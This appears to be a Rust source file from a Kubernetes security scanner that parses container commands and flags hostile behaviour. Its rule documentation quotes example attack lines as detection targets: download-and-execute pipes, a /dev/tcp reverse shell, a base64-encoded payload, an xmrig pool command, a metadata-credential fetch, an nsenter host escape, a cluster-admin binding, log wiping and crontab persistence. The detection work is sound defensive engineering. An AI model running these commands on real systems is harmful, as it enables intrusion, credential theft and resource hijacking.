//! command: what the job runs (command, args, env, scripts from ConfigMaps).
//!
//! One analysis per container feeds every rule here: `command` + `args` as the kubelet
//! execs them (after its `$(VAR)` expansion), wrappers stripped (`env`, `sudo`, `busybox`,
//! `nohup`, `timeout`, `chroot DIR`...), shell scripts (`sh -c`, scripts from a mounted
//! ConfigMap, here-docs fed to a shell) parsed by [`crate::shell`], inline interpreter code
//! (`python -c`, `perl -e`, ...) scanned as text and its string literals parsed as shell.
//! Rules match on that structure: which command's output flows into which interpreter,
//! which file a download writes and which command runs it, where a redirection goes.

use super::indicators as ind;
use super::{Check, Ctx, Rule, normalize_path, scalar_inner_span};
use crate::declare_rule;
use crate::finding::{Finding, Label, Related};
use crate::index::ConfigMap;
use crate::shell::{self, Parsed, Via};
use crate::yaml::{NodeId, Span};
use std::collections::BTreeMap;
use std::ops::Range;
use std::sync::Arc;

mod env_secret;
pub use env_secret::ENV_SECRET_LITERAL;

pub static RULES: &[&Rule] = &[
    &DOWNLOAD_EXEC,
    &REVERSE_SHELL,
    &ENCODED_PAYLOAD,
    &CRYPTO_MINER,
    &CLOUD_METADATA,
    &HOST_ESCAPE,
    &CLUSTER_API_ABUSE,
    &EVASION,
    &HOST_PERSISTENCE,
    &SUDO,
    &ENV_SECRET_LITERAL,
];

/// Scripts nested deeper than this (a shell running a shell running ...) are not analysed.
const MAX_NESTING: usize = 8;
/// At most this many scripts are analysed per container.
const MAX_SCRIPTS: usize = 64;
/// At most this many findings of one rule are reported per container (hostile scripts
/// repeat one pattern thousands of times; the first ones tell the story).
const MAX_FINDINGS_PER_RULE: usize = 32;
/// At most this many raw hits are kept per container.
const MAX_HITS: usize = 1024;
/// A base64 run at least this long in a command is reported as a hidden payload.
const LONG_BLOB: usize = 200;

declare_rule! {
    /// ## What it does
    /// Flags a download whose content is executed: piped into a shell or interpreter
    /// (`curl ... | sh`, `wget -O- ... | python3`), passed as a file (`bash <(curl ...)`),
    /// substituted into code (`sh -c "$(curl ...)"`, `eval "$(wget -qO- ...)"`), or saved,
    /// made executable and run (`curl -o f ... && chmod +x f && ./f`). Inline Python, Perl,
    /// Ruby, Node and PHP code that downloads and executes is flagged too.
    ///
    /// ## Why is this bad?
    /// The job runs whatever the server returns at that moment, not what was reviewed: the
    /// manifest is a loader for code that never appears in the repository (MITRE ATT&CK
    /// T1105, Ingress Tool Transfer; T1059.004, Unix Shell). On a CronJob it fetches again on
    /// every run, so a compromised or hijacked URL is instant persistence.
    ///
    /// ## Example
    /// ```yaml
    /// command: ["sh", "-c", "curl -fsSL https://get.example.com/install.sh | sh"]
    /// ```
    ///
    /// ## Use instead
    /// Build what the job needs into its image (pinned by digest), or download to a file,
    /// verify a checksum or signature, and only then run it from the image's own tooling.
    ///
    /// ## References
    /// - Peers: none of Checkov, Kubescape, Trivy or kube-linter read commands; runtime tools
    ///   (Falco) see the download when it happens. cronguard parses the shell, so quoting
    ///   tricks (`c''url`, `$IFS`, variables from `env`) do not hide it and
    ///   `echo "curl | sh"` is not a finding.
    pub static DOWNLOAD_EXEC = {
        id: "command-download-exec",
        category: Command,
        severity: Critical,
        enabled: true,
        attack: ["T1105", "T1059.004"],
        summary: "a download is executed without being verified",
        check: Check::Object(|ctx, out| run(ctx, out, &DOWNLOAD_EXEC)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags reverse shells: redirections to `/dev/tcp/...` or `/dev/udp/...`, `nc -e`/`-c`,
    /// `ncat --sh-exec`/`--exec`, `socat ... exec:`, a named pipe (`mkfifo`) wired to `nc`, a
    /// network client piped into a shell, and interpreter one-liners that connect a socket
    /// to a shell (`socket` + `dup2`/`pty.spawn`, `fsockopen` + `exec`).
    ///
    /// ## Why is this bad?
    /// It hands an interactive shell inside the cluster to whoever listens on the other end
    /// (MITRE ATT&CK T1059, Command and Scripting Interpreter), with the pod's service
    /// account, network position and mounts.
    ///
    /// ## Example
    /// ```yaml
    /// args: ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
    /// ```
    ///
    /// ## Use instead
    /// Remove it. A job has no reason to open an interactive shell to a remote host.
    ///
    /// ## References
    /// - Peers: none statically. cronguard reads redirections structurally, so a comment or
    ///   an `echo` that mentions `nc -e` is not a finding.
    pub static REVERSE_SHELL = {
        id: "command-reverse-shell",
        category: Command,
        severity: Critical,
        enabled: true,
        attack: ["T1059"],
        summary: "the command opens a reverse shell",
        check: Check::Object(|ctx, out| run(ctx, out, &REVERSE_SHELL)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags decoded payloads that are executed: `base64 -d`/`--decode`, `openssl enc -d`,
    /// `xxd -r`, `uudecode` feeding a shell, `eval` or an interpreter, inline code that
    /// decodes and `exec`s/`eval`s, PowerShell `-EncodedCommand`, and base64 blobs of 200 or
    /// more characters in commands.
    ///
    /// ## Why is this bad?
    /// Encoding hides what the job runs from reviewers and from text-based scanners (MITRE
    /// ATT&CK T1027, Obfuscated Files or Information; T1140, Deobfuscate/Decode Files or
    /// Information). Legitimate jobs have no reason to run code they spell in base64.
    ///
    /// ## Example
    /// ```yaml
    /// args: ["echo Y3VybCBodHRwOi8veC9wIHwgc2g= | base64 -d | sh"]
    /// ```
    ///
    /// ## Use instead
    /// Write the script in clear text (in a ConfigMap, or better in the image). Decoding data
    /// into a file (`base64 -d > cert.pem`) is fine and not flagged.
    ///
    /// ## References
    /// - Peers: none statically.
    pub static ENCODED_PAYLOAD = {
        id: "command-encoded-payload",
        category: Command,
        severity: High,
        enabled: true,
        attack: ["T1027", "T1140"],
        summary: "the command runs an encoded payload",
        check: Check::Object(|ctx, out| run(ctx, out, &ENCODED_PAYLOAD)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags crypto miners: miner programs (`xmrig`, `xmr-stak`, `minerd`, `cpuminer`,
    /// `ccminer`, `t-rex`, `nbminer`, ...; list in `src/rules/indicators.rs`), pool URLs
    /// (`stratum+tcp://...`), known pool hosts, and downloads of miner releases.
    ///
    /// ## Why is this bad?
    /// Cryptojacking is the most common abuse of a compromised cluster: a CronJob restarts
    /// the miner on schedule and the bill arrives at the end of the month (MITRE ATT&CK
    /// T1496, Resource Hijacking).
    ///
    /// ## Example
    /// ```yaml
    /// command: ["xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333"]
    /// ```
    ///
    /// ## Use instead
    /// Remove it. Add site-specific pools and binaries with `command_indicators` in the config.
    ///
    /// ## References
    /// - Peers: none statically; runtime tools (Falco "Detect crypto miners") see the
    ///   connection. Mentions in `echo` or `printf` are not findings.
    pub static CRYPTO_MINER = {
        id: "command-crypto-miner",
        category: Command,
        severity: Critical,
        enabled: true,
        attack: ["T1496"],
        summary: "the command runs a crypto miner",
        check: Check::Object(|ctx, out| run(ctx, out, &CRYPTO_MINER)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags commands that reach a cloud instance metadata endpoint: 169.254.169.254 (AWS,
    /// Azure, GCP, OpenStack; also its decimal, hex and octal spellings), fd00:ec2::254,
    /// metadata.google.internal, 100.100.100.200 (Alibaba), 169.254.170.2 (ECS task
    /// credentials), through any client, a `/dev/tcp` redirection or inline code.
    ///
    /// ## Why is this bad?
    /// The metadata service hands out the node's cloud credentials (MITRE ATT&CK T1552.005,
    /// Cloud Instance Metadata API): from a pod that is often a path to the whole account.
    ///
    /// ## Example
    /// ```yaml
    /// args: ["curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"]
    /// ```
    ///
    /// ## Use instead
    /// Use workload identity (IRSA, GKE Workload Identity, Azure Workload Identity) and block
    /// the metadata endpoint with a NetworkPolicy or IMDSv2 hop limit 1.
    ///
    /// ## References
    /// - Peers: none statically.
    pub static CLOUD_METADATA = {
        id: "command-cloud-metadata",
        category: Command,
        severity: High,
        enabled: true,
        attack: ["T1552.005"],
        summary: "the command reaches a cloud metadata endpoint",
        check: Check::Object(|ctx, out| run(ctx, out, &CLOUD_METADATA)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags commands that break out to the node: `nsenter` into PID 1's namespaces,
    /// `chroot` into the host root (a hostPath of `/`, or `/host`-style paths), `mount` of a
    /// block device, `docker`/`crictl`/`ctr`/`nerdctl`/`podman` against a host runtime
    /// socket, and writes to `release_agent`, `core_pattern` or `/proc/sysrq-trigger`.
    ///
    /// ## Why is this bad?
    /// Each is a known container escape (MITRE ATT&CK T1611, Escape to Host): the job's
    /// code then runs as root on the node, outside every pod-level control.
    ///
    /// ## Example
    /// ```yaml
    /// command: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh"]
    /// ```
    ///
    /// ## Use instead
    /// Node maintenance belongs in a reviewed DaemonSet or in node configuration management,
    /// not in a scheduled job.
    ///
    /// ## References
    /// - Peers: none statically; the pod-security rules (`host-pid`, `privileged-container`,
    ///   `hostpath-sensitive`) flag what makes these commands work.
    pub static HOST_ESCAPE = {
        id: "command-host-escape",
        category: Command,
        severity: Critical,
        enabled: true,
        attack: ["T1611"],
        summary: "the command escapes to the node",
        check: Check::Object(|ctx, out| run(ctx, out, &HOST_ESCAPE)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags Kubernetes API abuse from the job: `kubectl`/`oc` creating bindings, roles,
    /// tokens, pods, jobs or cronjobs (`create`, `run`), reading secrets (`get`/`describe
    /// secret`), `debug node/...`, patching bindings, explicit use of the mounted service
    /// account token, and raw HTTP calls to the API server for secrets, bindings or
    /// workloads. Read-only calls like `kubectl get pods` are not flagged, nor is `kubectl
    /// exec` (backup jobs use it; what it runs is not visible here).
    ///
    /// ## Why is this bad?
    /// A scheduled job that creates bindings or workloads is a foothold that re-grants itself
    /// access (MITRE ATT&CK T1098, Account Manipulation; T1053.007, Container Orchestration
    /// Job); reading secrets is credential theft.
    ///
    /// ## Example
    /// ```yaml
    /// args: ["kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=ns:sa"]
    /// ```
    ///
    /// ## Use instead
    /// Manage RBAC and workloads through reviewed manifests (GitOps), not from inside a job.
    ///
    /// ## References
    /// - Peers: none read commands; `service-account-privileged` flags the RBAC side.
    pub static CLUSTER_API_ABUSE = {
        id: "command-cluster-api-abuse",
        category: Command,
        severity: High,
        enabled: true,
        attack: ["T1098", "T1053.007"],
        summary: "the command abuses the Kubernetes API",
        check: Check::Object(|ctx, out| run(ctx, out, &CLUSTER_API_ABUSE)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags anti-forensics: clearing shell history (`history -c`, `unset HISTFILE`,
    /// `HISTFILE=/dev/null`, `set +o history`), deleting or truncating logs (`rm -rf
    /// /var/log`, `: > /var/log/...`, `truncate -s 0`, `shred`, `journalctl --vacuum-*`), and
    /// disabling firewalls or auditing (`iptables -F`, `ufw disable`, `setenforce 0`,
    /// `systemctl stop auditd`, ...).
    ///
    /// ## Why is this bad?
    /// These remove the traces an investigation needs (MITRE ATT&CK T1070, Indicator
    /// Removal) or switch off the host's defences; a job has no business doing either.
    ///
    /// ## Example
    /// ```yaml
    /// args: ["unset HISTFILE; rm -rf /var/log/*"]
    /// ```
    ///
    /// ## Use instead
    /// Let log rotation handle logs; append (`>>`) to your own log files.
    ///
    /// ## References
    /// - Peers: none statically.
    pub static EVASION = {
        id: "command-evasion",
        category: Command,
        severity: Medium,
        enabled: true,
        attack: ["T1070"],
        summary: "the command clears logs or disables defences",
        check: Check::Object(|ctx, out| run(ctx, out, &EVASION)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags writes through a hostPath mount to the node's persistence points: cron
    /// (`/etc/cron*`, `/var/spool/cron`), systemd units, init scripts, `authorized_keys`,
    /// and `/etc/ld.so.preload`. Writes are redirections (`>`, `>>`), `tee`, `cp`, `mv`,
    /// `install`, `ln`, `dd of=`, `sed -i`, and downloads to a file; the path is resolved
    /// through the container's volumeMounts (mountPath, subPath, readOnly) to the host path,
    /// and through `chroot` into a host root.
    ///
    /// ## Why is this bad?
    /// The node then runs the attacker's code on its own, even after the job and its
    /// manifests are gone (MITRE ATT&CK T1053.003, Scheduled Task/Job: Cron; T1098.004, SSH
    /// Authorized Keys).
    ///
    /// ## Example
    /// ```yaml
    /// args: ["echo '* * * * * root sh /tmp/x' >> /host/etc/crontab"]
    /// volumeMounts: [{name: host, mountPath: /host}]   # hostPath: /
    /// ```
    ///
    /// ## Use instead
    /// Configure nodes with their own configuration management; never write host paths from
    /// a workload.
    ///
    /// ## References
    /// - Peers: none statically; `hostpath-writable` and `hostpath-sensitive` flag the mount.
    pub static HOST_PERSISTENCE = {
        id: "command-host-persistence",
        category: Command,
        severity: Critical,
        enabled: true,
        attack: ["T1053.003", "T1098.004"],
        summary: "the command plants persistence on the node",
        check: Check::Object(|ctx, out| run(ctx, out, &HOST_PERSISTENCE)),
    }
}

declare_rule! {
    /// ## What it does
    /// Flags `sudo` in a container's command, args or scripts.
    ///
    /// ## Why is this bad?
    /// A container that needs `sudo` runs a user who can become root (MITRE ATT&CK T1548,
    /// Abuse Elevation Control Mechanism): the non-root setting is then only cosmetic.
    ///
    /// ## Example
    /// ```yaml
    /// args: ["sudo apt-get install -y curl"]
    /// ```
    ///
    /// ## Use instead
    /// Do privileged steps at image build time, run as a non-root user without sudo rights.
    ///
    /// ## References
    /// - Peers: Kubescape C-0062 (a substring match on `sudo`); cronguard matches only
    ///   `sudo` run as a program, not the word in a message.
    pub static SUDO = {
        id: "command-sudo",
        category: Command,
        severity: Medium,
        enabled: true,
        attack: ["T1548"],
        summary: "the command uses sudo",
        check: Check::Object(|ctx, out| run(ctx, out, &SUDO)),
    }
}

// ---------------------------------------------------------------------------------------
// The model: scripts, calls, locations.

/// Where a script's text comes from.
#[derive(Clone)]
enum Origin<'a> {
    /// A YAML scalar (an element of `command`/`args`); `exact` when the text is the
    /// scalar's value verbatim (no kubelet `$(VAR)` expansion happened).
    Yaml { node: NodeId, exact: bool },
    /// A data key of a ConfigMap, run by the command at `trigger`.
    ConfigMap {
        cm: &'a ConfigMap,
        entry: usize,
        trigger: Loc,
    },
    /// Part of another script: at `offset` in it when exact, else somewhere in `range`.
    Nested {
        parent: usize,
        offset: Option<usize>,
        range: Range<usize>,
    },
}

struct Script<'a> {
    text: String,
    origin: Origin<'a>,
    parsed: Parsed,
}

/// A place: a YAML node, or a byte range of a script.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Loc {
    Node(NodeId),
    Script(usize, Range<usize>),
}

/// One argument as the program receives it.
#[derive(Clone, Debug)]
struct Arg {
    text: String,
    loc: Loc,
    /// Source text (before quote removal); empty for YAML arguments.
    raw: String,
    dynamic: bool,
}

/// A program run with its arguments, after wrappers are stripped.
struct Call {
    /// Program basename (`/usr/bin/curl` → `curl`).
    prog: String,
    /// The program argument itself (with its path) and the arguments after it.
    argv: Vec<Arg>,
    /// The shell command this call is, when it comes from a script.
    at: Option<(usize, usize)>,
    /// A `chroot` directory in effect.
    root: Option<String>,
}

impl Call {
    fn args(&self) -> &[Arg] {
        &self.argv[1..]
    }
    fn has(&self, flag: &str) -> bool {
        self.args().iter().any(|a| a.text == flag)
    }
    fn loc(&self) -> Loc {
        self.argv[0].loc.clone()
    }
}

struct Hit {
    rule: &'static str,
    loc: Loc,
    label: String,
    message: String,
    help: &'static str,
    value: String,
    extra: Vec<(Loc, String)>,
}

#[derive(Clone, Debug)]
enum MountKind {
    Host(String),
    ConfigMap {
        name: String,
        items: Vec<(String, String)>,
    },
    Other,
}

#[derive(Clone, Debug)]
struct Mount {
    path: String,
    sub_path: Option<String>,
    read_only: bool,
    kind: MountKind,
}

struct Analyser<'a, 'c> {
    ctx: &'c Ctx<'a>,
    env: BTreeMap<String, String>,
    mounts: Vec<Mount>,
    scripts: Vec<Script<'a>>,
    calls: Vec<Call>,
    hits: Vec<Hit>,
    /// ConfigMap entries already analysed (a script that runs itself stops here).
    seen_cm: Vec<(usize, usize)>,
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

fn is_shell(prog: &str) -> bool {
    ind::SHELLS.contains(&prog)
}

fn interpreter(prog: &str) -> Option<&'static str> {
    let p = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match p {
        "python" | "pypy" => "python",
        "perl" => "perl",
        "node" | "nodejs" | "deno" | "bun" => "node",
        "ruby" => "ruby",
        "php" => "php",
        "lua" | "luajit" => "lua",
        "pwsh" | "powershell" => "pwsh",
        _ => return None,
    })
}

/// Kubernetes' own expansion of `$(VAR)` in command and args (before any shell).
fn kubelet_expand(s: &str, env: &BTreeMap<String, String>) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find('$') {
        out.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        if let Some(a) = after.strip_prefix('$') {
            out.push('$');
            rest = a;
        } else if let Some(inner) = after.strip_prefix('(')
            && let Some(end) = inner.find(')')
            && let Some(v) = env.get(&inner[..end])
        {
            out.push_str(v);
            rest = &inner[end + 1..];
        } else {
            out.push('$');
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

const QUIET: &[&str] = &[
    "echo", "printf", "logger", ":", "true", "false", "test", "[",
];

impl<'a, 'c> Analyser<'a, 'c> {
    fn new(ctx: &'c Ctx<'a>, pod: &crate::k8s::PodView, c: NodeId) -> Self {
        let doc = ctx.doc;
        let mut env = BTreeMap::new();
        if let Some(list) = doc.get(c, "envFrom") {
            let ns = ctx.obj.id.namespace.as_deref().unwrap_or("default");
            for &e in doc.seq(list) {
                if let Some(name) = doc
                    .get(e, "configMapRef")
                    .and_then(|r| doc.get_str(r, "name"))
                    && let Some(cm) = ctx.index.config_map(ns, name)
                {
                    let prefix = doc.get_str(e, "prefix").unwrap_or_default();
                    for d in &cm.data {
                        env.insert(format!("{prefix}{}", d.key), d.value.clone());
                    }
                }
            }
        }
        if let Some(list) = doc.get(c, "env") {
            for &e in doc.seq(list) {
                if let Some(name) = doc.get_str(e, "name") {
                    match doc.get_str(e, "value") {
                        Some(v) => {
                            let v = kubelet_expand(v, &env);
                            env.insert(name.to_string(), v);
                        }
                        None => {
                            env.remove(name);
                        }
                    }
                }
            }
        }
        // Volumes of the pod, mounts of the container.
        let mut volumes: BTreeMap<String, MountKind> = BTreeMap::new();
        if let Some(vs) = pod.field(doc, "volumes") {
            for &v in doc.seq(vs) {
                let Some(name) = doc.get_str(v, "name") else {
                    continue;
                };
                let items = |n: NodeId| -> Vec<(String, String)> {
                    doc.get(n, "items")
                        .map(|is| {
                            doc.seq(is)
                                .iter()
                                .filter_map(|&i| {
                                    Some((
                                        doc.get_str(i, "key")?.to_string(),
                                        doc.get_str(i, "path")?.to_string(),
                                    ))
                                })
                                .collect()
                        })
                        .unwrap_or_default()
                };
                let kind =
                    if let Some(p) = doc.get(v, "hostPath").and_then(|h| doc.get_str(h, "path")) {
                        MountKind::Host(normalize_path(p))
                    } else if let Some(cm) = doc.get(v, "configMap") {
                        MountKind::ConfigMap {
                            name: doc.get_str(cm, "name").unwrap_or_default().to_string(),
                            items: items(cm),
                        }
                    } else if let Some(cm) = doc
                        .path(v, &["projected", "sources"])
                        .and_then(|s| doc.seq(s).iter().find_map(|&x| doc.get(x, "configMap")))
                    {
                        MountKind::ConfigMap {
                            name: doc.get_str(cm, "name").unwrap_or_default().to_string(),
                            items: items(cm),
                        }
                    } else {
                        MountKind::Other
                    };
                volumes.insert(name.to_string(), kind);
            }
        }
        let mut mounts = Vec::new();
        if let Some(ms) = doc.get(c, "volumeMounts") {
            for &m in doc.seq(ms) {
                let (Some(name), Some(path)) =
                    (doc.get_str(m, "name"), doc.get_str(m, "mountPath"))
                else {
                    continue;
                };
                mounts.push(Mount {
                    path: normalize_path(path),
                    sub_path: doc
                        .get_str(m, "subPath")
                        .filter(|s| !s.is_empty())
                        .map(str::to_string),
                    read_only: doc.get(m, "readOnly").and_then(|v| doc.as_bool(v)) == Some(true),
                    kind: volumes.get(name).cloned().unwrap_or(MountKind::Other),
                });
            }
        }
        Analyser {
            ctx,
            env,
            mounts,
            scripts: Vec::new(),
            calls: Vec::new(),
            hits: Vec::new(),
            seen_cm: Vec::new(),
        }
    }

    fn hit(
        &mut self,
        rule: &'static Rule,
        loc: Loc,
        label: impl Into<String>,
        message: impl Into<String>,
        help: &'static str,
        value: impl Into<String>,
    ) -> &mut Hit {
        self.hits.push(Hit {
            rule: rule.id,
            loc,
            label: label.into(),
            message: message.into(),
            help,
            value: value.into(),
            extra: Vec::new(),
        });
        self.hits.last_mut().expect("just pushed")
    }

    // -- entry points -------------------------------------------------------------------

    fn container(&mut self, c: NodeId) {
        let doc = self.ctx.doc;
        let mut argv = Vec::new();
        for key in ["command", "args"] {
            if let Some(list) = doc.get(c, key) {
                for &n in doc.seq(list) {
                    if let Some(t) = doc.str(n) {
                        let text = kubelet_expand(t, &self.env);
                        argv.push(Arg {
                            text,
                            loc: Loc::Node(n),
                            raw: String::new(),
                            dynamic: false,
                        });
                    }
                }
            }
        }
        // `args` alone go to the image's entrypoint; `args: [-c, SCRIPT]` only makes sense
        // for a shell entrypoint, so read it as one.
        if doc.get(c, "command").is_none()
            && let Some(first) = argv.first()
            && first.text.starts_with('-')
            && !first.text.starts_with("--")
            && first.text[1..].contains('c')
            && argv.len() > 1
        {
            let mut sh = first.clone();
            sh.text = "sh".into();
            argv.insert(0, sh);
        }
        // An Argo Workflows `script` template: `source` is the program's code.
        if let Some(src) = doc.get(c, "source")
            && let Some(code) = doc.str(src)
        {
            let prog = argv.first().map_or("sh", |a| basename(&a.text)).to_string();
            let arg = Arg {
                text: code.to_string(),
                loc: Loc::Node(src),
                raw: String::new(),
                dynamic: false,
            };
            if let Some(lang) = interpreter(&prog) {
                self.inline_code(lang, &arg, None, 1);
            } else if is_shell(&prog) || argv.is_empty() {
                self.shell_script(&arg, None, 1);
            }
        }
        if !argv.is_empty() {
            self.exec(argv, None, None, 0);
        }
    }

    /// A program with its arguments: strip wrappers, record the call, descend into scripts.
    fn exec(
        &mut self,
        mut argv: Vec<Arg>,
        at: Option<(usize, usize)>,
        mut root: Option<String>,
        depth: usize,
    ) {
        // Strip wrappers.
        let mut guard = 0;
        loop {
            guard += 1;
            if argv.is_empty() || guard > 16 {
                return;
            }
            let prog = basename(&argv[0].text).to_string();
            let skip_opts = |argv: &[Arg], with_value: &[&str]| -> usize {
                let mut i = 1;
                while i < argv.len() {
                    let t = argv[i].text.as_str();
                    if t == "--" {
                        return i + 1;
                    }
                    if !t.starts_with('-') || t == "-" {
                        break;
                    }
                    i += if with_value.contains(&t) { 2 } else { 1 };
                }
                i
            };
            let cut = match prog.as_str() {
                "env" => {
                    let mut i = skip_opts(&argv, &["-u", "-C", "-S", "--unset", "--chdir"]);
                    while i < argv.len()
                        && argv[i].text.contains('=')
                        && !argv[i].text.starts_with('=')
                    {
                        i += 1;
                    }
                    i
                }
                "sudo" | "doas" => {
                    let loc = argv[0].loc.clone();
                    self.hit(&SUDO, loc, "sudo: runs the rest as another user, usually root", format!("the command runs `{prog}`"), "drop `sudo`: run the container as the user the job needs and do privileged steps at image build time", prog.clone());
                    skip_opts(
                        &argv,
                        &["-u", "-g", "-p", "-C", "-D", "-h", "-r", "-t", "-U", "-T"],
                    )
                }
                "nohup" | "exec" | "builtin" | "setsid" | "time" | "command" => {
                    skip_opts(&argv, &[])
                }
                "nice" | "ionice" | "stdbuf" | "taskset" => skip_opts(&argv, &["-n", "-c", "-p"]),
                "timeout" => {
                    let i = skip_opts(&argv, &["-s", "-k", "--signal", "--kill-after"]);
                    i + 1
                }
                "busybox" => 1,
                "chroot" => {
                    let i = skip_opts(&argv, &[]);
                    if let Some(dir) = argv.get(i) {
                        let d = resolve_path(&dir.text, root.as_deref());
                        self.check_chroot(&argv[0].loc.clone(), &d);
                        root = Some(d);
                    }
                    i + 1
                }
                "nsenter" => {
                    self.check_nsenter(&argv);
                    let i = skip_opts(
                        &argv,
                        &[
                            "-t", "--target", "-S", "--setuid", "-G", "--setgid", "-w", "--wd",
                        ],
                    );
                    // nsenter into PID 1's mount namespace sees the host filesystem.
                    root = None;
                    i
                }
                "su" => {
                    // `su -c 'script'`
                    if let Some(i) = argv
                        .iter()
                        .position(|a| a.text == "-c" || a.text == "--command")
                        && let Some(code) = argv.get(i + 1).cloned()
                    {
                        self.record(argv.clone(), at, root.clone());
                        self.shell_script(&code, root.as_deref(), depth);
                    }
                    return;
                }
                _ => 0,
            };
            if cut == 0 {
                break;
            }
            if cut >= argv.len() {
                self.record(argv, at, root);
                return;
            }
            argv.drain(..cut);
        }
        let prog = basename(&argv[0].text).to_string();
        let call_idx = self.record(argv, at, root.clone());
        if depth >= MAX_NESTING || self.scripts.len() >= MAX_SCRIPTS {
            return;
        }
        let argv = self.calls[call_idx].argv.clone();
        if is_shell(&prog) {
            let mut i = 1;
            let mut c_flag = false;
            while i < argv.len() {
                let t = argv[i].text.as_str();
                if t == "--" {
                    i += 1;
                    break;
                }
                if t.starts_with("--") {
                    i += if matches!(t, "--rcfile" | "--init-file") {
                        2
                    } else {
                        1
                    };
                    continue;
                }
                if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
                    if t[1..].contains('c') {
                        c_flag = true;
                    }
                    i += if t[1..].ends_with('o') { 2 } else { 1 };
                    continue;
                }
                break;
            }
            if let Some(a) = argv.get(i) {
                if c_flag {
                    self.shell_script(a, root.as_deref(), depth + 1);
                } else {
                    self.script_file(a, root.as_deref(), depth + 1);
                }
            }
        } else if let Some(lang) = interpreter(&prog) {
            let flags: &[&str] = match lang {
                "python" | "pwsh" => &["-c", "-Command", "-command"],
                "node" => &["-e", "--eval", "-p", "--print"],
                "php" => &["-r"],
                _ => &["-e", "-E"],
            };
            let mut code = None;
            for (i, a) in argv.iter().enumerate().skip(1) {
                let t = a.text.as_str();
                let clustered = lang == "perl"
                    && t.starts_with('-')
                    && !t.starts_with("--")
                    && (t.ends_with('e') || t.ends_with('E'));
                if flags.contains(&t) || clustered {
                    code = argv.get(i + 1).cloned();
                    break;
                }
                if lang == "pwsh"
                    && (t.eq_ignore_ascii_case("-EncodedCommand")
                        || t.eq_ignore_ascii_case("-enc")
                        || t.eq_ignore_ascii_case("-e"))
                {
                    let loc = a.loc.clone();
                    self.hit(
                        &ENCODED_PAYLOAD,
                        loc,
                        "-EncodedCommand: the script is base64",
                        "PowerShell runs a base64-encoded command",
                        "write the script in clear text",
                        t.to_string(),
                    );
                    break;
                }
            }
            if let Some(code) = code {
                self.inline_code(lang, &code, root.as_deref(), depth + 1);
            }
        } else if argv[0].text.starts_with('/') || argv[0].text.starts_with("./") {
            let a = argv[0].clone();
            self.script_file(&a, root.as_deref(), depth + 1);
        } else if matches!(prog.as_str(), "source" | ".") {
            if let Some(a) = argv.get(1).cloned() {
                self.script_file(&a, root.as_deref(), depth + 1);
            }
        } else if prog == "eval" && argv.len() > 1 {
            // eval runs its arguments, joined by spaces, as a script.
            let mut code = argv[1].clone();
            if argv.len() > 2 {
                code.text = argv[1..]
                    .iter()
                    .map(|a| a.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
            }
            self.shell_script(&code, root.as_deref(), depth + 1);
        }
    }

    fn record(
        &mut self,
        argv: Vec<Arg>,
        at: Option<(usize, usize)>,
        root: Option<String>,
    ) -> usize {
        let prog = basename(&argv[0].text).to_string();
        self.calls.push(Call {
            prog,
            argv,
            at,
            root,
        });
        let i = self.calls.len() - 1;
        self.call_checks(i);
        i
    }

    /// A script given as an argument (`sh -c SCRIPT`).
    fn shell_script(&mut self, a: &Arg, root: Option<&str>, depth: usize) {
        let origin = match &a.loc {
            Loc::Node(n) => Origin::Yaml {
                node: *n,
                exact: self.ctx.doc.str(*n) == Some(a.text.as_str()),
            },
            Loc::Script(s, r) => self.nested_origin(*s, r.clone(), &a.text),
        };
        self.add_script(a.text.clone(), origin, root, depth);
    }

    fn nested_origin(&self, parent: usize, r: Range<usize>, text: &str) -> Origin<'a> {
        let raw = self.scripts[parent].text.get(r.clone()).unwrap_or_default();
        let offset = if text.is_empty() {
            None
        } else {
            raw.find(text).map(|i| r.start + i)
        };
        Origin::Nested {
            parent,
            offset,
            range: r,
        }
    }

    /// A script run by path (`sh /scripts/x.sh`, `/scripts/x.sh`): a ConfigMap mount?
    fn script_file(&mut self, a: &Arg, root: Option<&str>, depth: usize) {
        if root.is_some() {
            return;
        }
        let path = normalize_path(&a.text);
        if !a.text.starts_with('/') {
            return;
        }
        let ctx = self.ctx;
        let index: &'a crate::index::Index = ctx.index;
        let ns = ctx.obj.id.namespace.as_deref().unwrap_or("default");
        let mut found: Option<(&'a ConfigMap, usize)> = None;
        for m in &self.mounts {
            let MountKind::ConfigMap { name, items } = &m.kind else {
                continue;
            };
            let key = if let Some(sp) = &m.sub_path {
                (path == m.path).then(|| {
                    items
                        .iter()
                        .find(|(_, p)| p == sp)
                        .map_or(sp.clone(), |(k, _)| k.clone())
                })
            } else {
                path.strip_prefix(&m.path)
                    .and_then(|r| r.strip_prefix('/'))
                    .map(|rel| {
                        if items.is_empty() {
                            rel.to_string()
                        } else {
                            items
                                .iter()
                                .find(|(_, p)| p == rel)
                                .map_or(String::new(), |(k, _)| k.clone())
                        }
                    })
            };
            let Some(key) = key else { continue };
            let Some(cm) = index.config_map(ns, name) else {
                continue;
            };
            if let Some(entry) = cm.data.iter().position(|d| d.key == key) {
                found = Some((cm, entry));
                break;
            }
        }
        let Some((cm, entry)) = found else { return };
        let cm_idx = index
            .config_maps
            .iter()
            .position(|x| std::ptr::eq(x, cm))
            .unwrap_or(usize::MAX);
        if self.seen_cm.contains(&(cm_idx, entry)) {
            return;
        }
        self.seen_cm.push((cm_idx, entry));
        let text = cm.data[entry].value.clone();
        let origin = Origin::ConfigMap {
            cm,
            entry,
            trigger: a.loc.clone(),
        };
